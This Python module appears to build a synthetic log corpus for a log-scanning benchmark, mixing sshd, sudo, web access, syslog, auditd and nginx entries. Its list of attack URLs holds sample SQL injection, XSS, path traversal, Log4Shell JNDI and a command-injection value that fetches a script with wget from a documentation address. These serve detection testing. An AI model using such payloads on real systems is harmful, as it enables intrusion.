"""Deterministic synthetic mixed log corpus for the logscan benchmark.

Documentation address ranges (RFC 5737 / 3849) and fictitious names only.
"""

from __future__ import annotations

import contextlib
import json
import random

HOSTS = ["web01", "web02", "db01", "gw01", "app03"]
USERS = ["zhangwei", "liuyang", "wangfang", "chenjing", "deploy", "backup", "ops"]
BAD_USERS = ["root", "admin", "test", "oracle", "guest", "ubuntu", "postgres", "user", "ftp", "git"]
ATTACKERS = [f"203.0.113.{i}" for i in range(1, 60)]
CLIENTS = [f"198.51.100.{i}" for i in range(1, 250)] + [f"192.0.2.{i}" for i in range(1, 250)]
INTERNAL = [f"192.0.2.{i}" for i in range(200, 230)]
PATHS = ["/", "/index.html", "/news/2026/notice.html", "/static/css/site.css", "/static/js/app.js", "/api/v1/items?page=2",
         "/images/logo.png", "/gov/service/apply?id=1024", "/search?q=policy", "/login", "/favicon.ico", "/about.html"]
UAS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
       "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148 MicroMessenger/8.0",
       "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"]
ATTACK_URLS = ["/index.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
               "/download?file=../../../../etc/passwd", "/shell.php?cmd=id", "/.env", "/.git/config",
               "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array", "/wls-wsat/CoordinatorPortType",
               "/api?x=${jndi:ldap://203.0.113.9/a}", "/cgi-bin/test.cgi?x=;wget%20http://203.0.113.9/x.sh"]
ATTACK_UAS = ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.0 (compatible; Nmap Scripting Engine)", "Nikto/2.5.0",
              "python-requests/2.31"]
MON = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]


def _ts(t: int) -> tuple[str, str, str]:
    # t: seconds since 2026-03-01 00:00 local
    day = 1 + t // 86400
    hh, rem = divmod(t % 86400, 3600)
    mm, ss = divmod(rem, 60)
    syslog = f"Mar {day:2d} {hh:02d}:{mm:02d}:{ss:02d}"
    access = f"{day:02d}/Mar/2026:{hh:02d}:{mm:02d}:{ss:02d} +0800"
    iso = f"2026-03-{day:02d}T{hh:02d}:{mm:02d}:{ss:02d}+08:00"
    return syslog, access, iso


def generate(n: int, seed: int = 7):
    """Yield (kind, line) tuples; kind is sshd / auth / web / syslog / auditd / weberr / json."""
    rnd = random.Random(seed)
    t = 8 * 3600
    pid = 1000
    for i in range(n):
        t += rnd.choice((0, 0, 0, 1))
        s, a, iso = _ts(t % (28 * 86400))
        host = rnd.choice(HOSTS)
        r = rnd.random()
        pid += 1
        if r < 0.30:  # sshd
            x = rnd.random()
            if x < 0.55:
                ip = rnd.choice(ATTACKERS)
                u = rnd.choice(BAD_USERS)
                if rnd.random() < 0.5:
                    yield "sshd", f"{s} {host} sshd[{pid}]: Failed password for invalid user {u} from {ip} port {rnd.randint(1024, 65000)} ssh2"
                else:
                    yield "sshd", f"{s} {host} sshd[{pid}]: Failed password for {u} from {ip} port {rnd.randint(1024, 65000)} ssh2"
            elif x < 0.65:
                yield "sshd", f"{s} {host} sshd[{pid}]: Invalid user {rnd.choice(BAD_USERS)} from {rnd.choice(ATTACKERS)} port {rnd.randint(1024, 65000)}"
            elif x < 0.80:
                yield "sshd", f"{s} {host} sshd[{pid}]: Accepted publickey for {rnd.choice(USERS)} from {rnd.choice(INTERNAL)} port {rnd.randint(1024, 65000)} ssh2: RSA SHA256:AbCdEf0123456789"
            elif x < 0.90:
                yield "sshd", f"{s} {host} sshd[{pid}]: pam_unix(sshd:session): session opened for user {rnd.choice(USERS)}(uid=1000) by (uid=0)"
            else:
                yield "sshd", f"{s} {host} sshd[{pid}]: Received disconnect from {rnd.choice(INTERNAL)} port {rnd.randint(1024, 65000)}:11: disconnected by user"
        elif r < 0.40:  # other auth
            x = rnd.random()
            u = rnd.choice(USERS)
            if x < 0.6:
                cmd = rnd.choice(["/usr/bin/systemctl restart nginx", "/usr/bin/apt-get update", "/bin/cat /var/log/nginx/error.log",
                                  "/usr/bin/journalctl -u app", "/bin/bash"])
                yield "auth", f"{s} {host} sudo:  {u} : TTY=pts/{rnd.randint(0, 5)} ; PWD=/home/{u} ; USER=root ; COMMAND={cmd}"
            elif x < 0.8:
                yield "auth", f"{s} {host} sudo: pam_unix(sudo:session): session opened for user root(uid=0) by {u}(uid=1000)"
            elif x < 0.95:
                yield "auth", f"{s} {host} CRON[{pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"
            elif x < 0.995:
                yield "auth", f"{s} {host} sudo: pam_unix(sudo:auth): authentication failure; logname={u} uid=1000 euid=0 tty=/dev/pts/1 ruser={u} rhost=  user={u}"
            else:
                yield "auth", f"{s} {host} useradd[{pid}]: new user: name=svc{rnd.randint(1, 99)}, UID={rnd.choice([0, 1001, 1002])}, GID=100, home=/home/svc, shell=/bin/bash"
        elif r < 0.75:  # web access
            if rnd.random() < 0.03:
                url, ua, st = rnd.choice(ATTACK_URLS), rnd.choice(ATTACK_UAS), rnd.choice((200, 404, 403))
                ip = rnd.choice(ATTACKERS)
            else:
                url, ua, st = rnd.choice(PATHS), rnd.choice(UAS), rnd.choice((200, 200, 200, 200, 304, 404))
                ip = rnd.choice(CLIENTS)
            m = "GET" if rnd.random() < 0.9 else "POST"
            yield "web", f'{ip} - - [{a}] "{m} {url} HTTP/1.1" {st} {rnd.randint(200, 40000)} "https://www.example.gov.cn/" "{ua}"'
        elif r < 0.85:  # generic syslog
            x = rnd.random()
            if x < 0.4:
                yield "syslog", f"{s} {host} systemd[1]: Started Session {rnd.randint(1, 9999)} of User {rnd.choice(USERS)}."
            elif x < 0.7:
                yield "syslog", f"{s} {host} kernel: [{rnd.randint(1, 99999)}.{rnd.randint(0, 999999):06d}] IPv4: martian source 192.0.2.{rnd.randint(1, 254)} from 198.51.100.{rnd.randint(1, 254)}, on dev eth0"
            elif x < 0.9:
                yield "syslog", f"{s} {host} CRON[{pid}]: (root) CMD (/usr/lib/sysstat/debian-sa1 1 1)"
            else:
                yield "syslog", f"<30>1 {iso} {host} appd {pid} ID47 - worker {rnd.randint(1, 16)} finished job {rnd.randint(1, 10**6)} in {rnd.randint(1, 900)}ms"
        elif r < 0.90:  # auditd
            yield "auditd", (f"type=USER_LOGIN msg=audit({1772323200 + t}.{rnd.randint(0, 999):03d}:{pid}): pid={pid} uid=0 auid=4294967295 "
                             f"ses=4294967295 msg='op=login acct=\"{rnd.choice(USERS + BAD_USERS)}\" exe=\"/usr/sbin/sshd\" hostname=? "
                             f"addr={rnd.choice(ATTACKERS + INTERNAL)} terminal=sshd res={rnd.choice(['success', 'failed'])}'")
        elif r < 0.95:  # nginx error
            yield "weberr", (f"2026/03/{1 + (t // 86400) % 28:02d} {(t % 86400) // 3600:02d}:{(t % 3600) // 60:02d}:{t % 60:02d} [error] {pid}#0: *{i} "
                             f"open() \"/var/www/html{rnd.choice(PATHS).split('?')[0]}\" failed (2: No such file or directory), client: {rnd.choice(CLIENTS)}, "
                             f"server: www.example.gov.cn, request: \"GET /x HTTP/1.1\", host: \"www.example.gov.cn\"")
        else:  # JSON lines
            yield "json", json.dumps({"@timestamp": iso, "host": {"name": host}, "service": "gov-portal", "level": "info",
                                      "message": f"request handled in {rnd.randint(1, 500)} ms", "source": {"ip": rnd.choice(CLIENTS)},
                                      "user": {"name": rnd.choice(USERS)}}, ensure_ascii=False)


def write(path: str, n: int, seed: int = 7, sshd_path: str | None = None) -> dict:
    counts: dict[str, int] = {}
    with open(path, "w") as fh, (open(sshd_path, "w") if sshd_path else contextlib.nullcontext()) as sf:
        for kind, line in generate(n, seed):
            counts[kind] = counts.get(kind, 0) + 1
            fh.write(line + "\n")
            if sf is not None and kind == "sshd":
                sf.write(line + "\n")
    return counts
